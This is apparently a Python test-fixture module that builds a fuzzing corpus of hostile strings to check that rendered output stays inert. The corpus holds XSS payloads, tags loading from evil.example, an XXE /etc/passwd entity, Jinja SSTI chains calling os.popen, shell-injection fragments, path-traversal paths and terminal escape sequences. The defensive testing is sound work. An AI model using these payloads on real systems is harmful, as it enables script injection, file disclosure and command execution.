"""Texts made to act where they should only be read: in a page, in Markdown, in a template, on a terminal, as a path."""

from __future__ import annotations

import json
import re
from functools import cache
from itertools import product

from rvjax.campaign.yaml_document import NOT_PRINTABLE

_MARKUP = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=x.swf>", "<embed src=x>", "<body onload=alert(1)>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}",
    "<style>@import '//evil.example/x.css';</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example>", "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>",
    "<textarea>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<isindex action=javascript:alert(1)>", "<table background=javascript:alert(1)>", "<plaintext>",
    "<xmp><script>alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script>", "<!--", "-->", "<!-- --!><script>alert(1)</script>",
    "<!--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "]]>", "<?xml version='1.0'?>",
    "<?php system('id'); ?>", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "<%= 7*7 %>", "<", ">", "&",
    "\"", "'", "<b>", "</b>", "<p", "</p>", "<br>", "<br/>", "<hr>", "< script>alert(1)</ script>",
    "<script\n>alert(1)</script\n>", "<\u017fcript>alert(1)</\u017fcript>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)\u2039/script\u203a", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<dialog open>", "<slot name=x>", "<portal src=//evil.example>",
)  # fmt: skip
_BREAKS = (
    '">', "'>", '"/>', "`>", "</title>", "</style>", "</script>", "</textarea>", "</td></tr></table>", "</code>", "</svg>",
    "--></p>", "]]>", "*/", "//", "\\\">", "\\'>", "\u2029\">", '"> \t\n', "</main></body></html>",
)  # fmt: skip
_CORES = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<b id=x>", "<!--")
_EVENTS = (
    "onabort", "onanimationend", "onauxclick", "onbeforeinput", "onblur", "onclick", "oncontextmenu", "oncopy", "ondblclick",
    "ondrag", "onerror", "onfocus", "onfocusin", "onhashchange", "oninput", "onkeydown", "onload", "onmessage",
    "onmouseover", "onpaste", "onpointerover", "onscroll", "onsubmit", "ontoggle",
)  # fmt: skip
_ATTRIBUTES = ('" {}=alert(1) x="', "' {}=alert(1) x='", "x {}=alert(1) ", '"{}=alert(1)//', "` {}=alert(1) `")
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;", "&#0000060script", "&LT;script&GT;", "&lt", "&#60", "&quot; onclick=alert(1) x=&quot;",
    "&amp;lt;b&amp;gt;", "&nbsp;", "&colon;", "&Tab;", "&NewLine;", "&#0;", "&#x110000;", "&notin;", "&zwj;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "\\074script",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "&#106;avascript:alert(1)", "&apos; onclick=x", "&grave;",
    "&lbrack;x&rbrack;(x)",
)  # fmt: skip
_LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "http://evil.example/",
    "https://evil.example/?q=1&r=2", "//evil.example/x", "www.evil.example", "WWW.evil.example/x", "ftp://evil.example",
    "file:///etc/passwd", "HTTP://EVIL.EXAMPLE", "url(javascript:alert(1))", "expression(alert(1))",
    "@import '//evil.example/x.css';", "background:url(//evil.example/x)", "blob:https://evil.example/x",
    "see https://evil.example.", "(http://evil.example)", "_www.evil.example_", "*www.evil.example*",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{{7*'7'}}", "{% raw %}", "{% endraw %}", "{% include '/etc/passwd' %}",
    "{% for x in range(9) %}x{% endfor %}", "{# x #}", "{{ self }}", "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ top.name | safe }}", "{%- set x = 1 -%}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{'<b>'|safe}}", "{{ '{{' }}", "{{", "}}", "{%", "%}", "{#",
    "#}", "${7*7}", "#{7*7}", "${{7*7}}", "<%= 7*7 %>", "{0}", "{0.__class__}", "{name}", "{", "}", "%s", "%(x)s", "%n%n%n",
    "$x$", "$$\\frac{1}{0}$$", "\\(x\\)", "\\[x\\]", "$\\href{javascript:alert(1)}{x}$", "\\input{/etc/passwd}", "$x",
    "`id`", "$(id)", "; rm -rf x", "| id", "&& id", "'; id; '", "\" ; id ; \"", "\\", "\\\\", "\\n", "!!", "~", "*", "?",
    "[a-z]", "a b", "# x", "--help", "-x", "=1+1", "@SUM(1)",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:alert(1))", "[x](https://evil.example)", "![x](https://evil.example/x.png)", "![x](x onerror=alert(1))",
    "[x]: https://evil.example", "[x][y]", "<https://evil.example>", "<javascript:alert(1)>", "<x@evil.example>", "[^1]",
    "[^1]: x", "**x**", "__x__", "*x*", "_x_", "~~x~~", "`x`", "``x``", "` `` `", "```\nx\n```", "~~~\nx\n~~~", "# x",
    "x\n===", "x\n---", "---", "***", "___", "- x", "+ x", "* x", "1. x", "12) x", "> x", ">> x", "    x", "\tx",
    "| x | y |", "|---|---|", "x | y", "\\|", "`|`", "\\`x`", "\\\\|<b>x</b>", "`\\|<img src=x>`", "a\\|<b>x</b>|",
    "\\[x](https://evil.example)", "x](https://evil.example)", "](https://evil.example)", "[", "]", "![", "](", "``", "`",
    "x`<b>x</b>`", "`` `<b>`` `", "<b>*x*</b>", "<!-- x -->", "<br>", "x  \ny", "x\\\ny", "- [ ] x", ":smile:", "==x==",
    "^x^", "$`x`$", "{: onclick=alert(1)}", "[[x]]", "@x", "#1", "x\n\n<script>alert(1)</script>", "x\n\n- y",
    "x\n| y |\n|---|\n| z |", "**x\n\ny**", "1986. x", "1234567890. x", "+", "-", "1.", "<b", "&lt;b&gt;",
)  # fmt: skip
_CHARACTERS = (
    "\u202e<b>x</b>", "\u202etxt.exe", "\u2066x\u2069", "\u2067x", "\u200fx", "\u200ex", "\u061cx", "x\u200by", "x\u200dy",
    "\ufeffx", "x\u00ady", "x\u2028y", "x\u2029<b>", "x\x85y", "\u00a0", "\u3000x", "\u00a0**x**", "\ufffd", "\ue000",
    "\u0130", "\u1e9e", "\ufdfa", "e" + "\u0301" * 60, "名前", "\U0001f680", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U000e0001x", "\U0010fffd", "\u0000\u0000", "x\x00<script>alert(1)</script>", "\x01", "\x08", "x\x7fy", "x\x0cy",
    "x\x0by", "x\x1fy", "x\x9by", "x\ry", "x\r\ny", "x\ny", "\n\nx", "x\n\n", "\t", "  x  ", "x\n# y", "x\n<b>y</b>",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[8mhidden", "\x1b[1A\x1b[2K", "\x1bc", "\x1b(0", "\x9b31m", "\x9d0;title\x9c", "\x90x\x9c", "\x07", "x\x08\x08y",
    "\x0e", "x\rPASS", "\x1b[6n", "\x1b]52;c;eA==\x07", "\x1b[?1049h", "\\x1b[31m", "\\e[31m", "\\033[31m", "^[[31m",
    "\x85PASS", "[bold red]x[/bold red]", "[/]", "[link=https://evil.example]x[/link]", "PASS", "x\nPASS: y",
)  # fmt: skip
PATHS = (
    "..", ".", "../x", "../../x", "../../../x", "x/../../y", "./x", "x/.", "x/./y", "x//y", "/etc/passwd", "/x", "//x",
    "/../x", "~", "~/x", "~root/x", "C:\\x", "C:/x", "..\\..\\x", "\\\\evil.example\\x", "file:///etc/passwd", "%2e%2e%2fx",
    "..%2fx", "..%c0%afx", "....//x", "x\\..\\y", "/dev/null", "/proc/self/environ", "/tmp/../etc/passwd", "nul", "con",
    "aux", "com1", "prn.txt", ".hidden", ".git", ".git/hooks/x", "...", "-rf", "--out", "x ", " x", "x.", "x:y", "x*y",
    "x?y", "x|y", "x\"y", "x<y>", "x;y", "x&y", "x'y", "x`id`", "$HOME", "${IFS}", "x\ty", "campaign.yaml", "manifest.json",
    "report.html", "samples", "figures/../../x", "x/campaign.yaml/..", "e\u0301", "\u00e9", "名/前", "x\u202ey", "\x1b[31mx",
    "x\ny", "x\x7fy", "a" * 255,
)  # fmt: skip
LONG = (
    "x" * 3_000, "<b>" * 700, "[" * 1_500, "`" * 1_000, "&" * 1_000, "<" * 1_500, "../" * 300 + "x", "\u202e" * 500, "**" * 700,
)  # fmt: skip


@cache
def texts() -> tuple[str, ...]:
    """Every text once."""
    broken = [first + core for first, core in product(_BREAKS, _CORES)]
    handlers = [form.format(event) for event, form in product(_EVENTS, _ATTRIBUTES[:2])]
    handlers += [form.format(_EVENTS[index]) for index, form in enumerate(_ATTRIBUTES)]
    listed = (_MARKUP, broken, handlers, _ENTITIES, _LINKS, _TEMPLATES, _MARKDOWN, _CHARACTERS, _TERMINAL, PATHS, LONG)
    return tuple(dict.fromkeys(text for part in listed for text in part))


@cache
def printable() -> tuple[str, ...]:
    """Those that a campaign file can hold."""
    return tuple(text for text in texts() if not NOT_PRINTABLE.search(text))


def harmless(count: int) -> tuple[str, ...]:
    """As many texts that nobody has to fear."""
    return tuple(f"word {number}" for number in range(count))


def quoted(text: str) -> str:
    """The text in YAML, with nothing that YAML would fold."""
    return re.sub("[\x85\u2028\u2029\ufeff]", lambda one: f"\\u{ord(one[0]):04x}", json.dumps(text, ensure_ascii=False))
